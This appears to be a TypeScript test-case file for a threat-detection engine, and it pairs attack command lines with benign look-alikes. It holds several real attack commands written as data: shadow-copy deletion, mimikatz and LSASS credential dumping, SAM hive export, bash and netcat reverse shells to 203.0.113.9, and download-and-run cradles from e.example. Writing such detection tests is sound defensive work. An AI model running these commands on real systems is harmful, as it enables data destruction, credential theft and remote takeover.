import type { DetectionCase } from "../../model/detection.ts";
import { finding, quiet, typed } from "./case-events.ts";

const run = (line: string, image = "", eventType = "process_execution") =>
  typed(eventType, { command_line: line, image, user: "bob" });

export const cases: readonly DetectionCase[] = [
  ...finding("CRITICAL", "RANSOMWARE", {
    "deleted shadow copies": run(
      "vssadmin.exe Delete Shadows /all /quiet",
      "C:\\Windows\\System32\\vssadmin.exe",
    ),
    "deleted shadow copies, by WMI": run("wmic shadowcopy delete /nointeractive"),
    "recovery switched off": run("bcdedit /set {default} recoveryenabled No"),
    "hidden by carets": run('cmd /c v^ss"ad"min del^ete shadows /all'),
    "called normal": run("vssadmin delete shadows /all", "", "normal_traffic"),
  }),
  ...finding("CRITICAL", "CREDENTIAL_ACCESS", {
    mimikatz: run("mimikatz.exe sekurlsa::logonpasswords exit"),
    "mimikatz by its image": run("x.exe", "C:\\Temp\\mimikatz.exe"),
    "a dump of LSASS": run("rundll32 C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\l.dmp full"),
    "the SAM hive": run("reg save HKLM\\SAM C:\\sam.hiv"),
  }),
  ...finding("CRITICAL", "COMMAND_INJECTION", {
    "a reverse shell of bash": run("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    "a reverse shell of netcat": run("nc 203.0.113.9 4444 -e /bin/sh"),
    "a reverse shell of Python": run("python3 -c 'import socket,subprocess,os;s=socket.socket()'"),
  }),
  ...finding("HIGH", "MALWARE", {
    "encoded PowerShell": run("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
    "a download cradle": run(
      "powershell IEX (New-Object Net.WebClient).DownloadString('http://e.example/a')",
    ),
    "a download by certutil": run("certutil -urlcache -split -f http://e.example/a.exe a.exe"),
    "a script from the web": run("curl -fsSL https://e.example/install.sh | sudo bash"),
  }),
  ...quiet({
    "a service": run("C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule"),
    "a PowerShell script": run("powershell.exe -ExecutionPolicy Bypass -File C:\\ops\\deploy.ps1 -Env prod"),
    "a list of shadow copies": run("vssadmin list shadows"),
    "a certificate check": run("certutil -verify server.cer"),
    "a download": run("curl -fsSL https://example.com/data.csv -o data.csv"),
    "an interactive shell": run("bash -i"),
    "a port check": run("nc -zv db.internal 5432"),
    "a filter for shells": run("ps aux | grep bash"),
    "no command line": typed("process_execution", { image: "/usr/bin/node", user: "app" }),
  }),
];
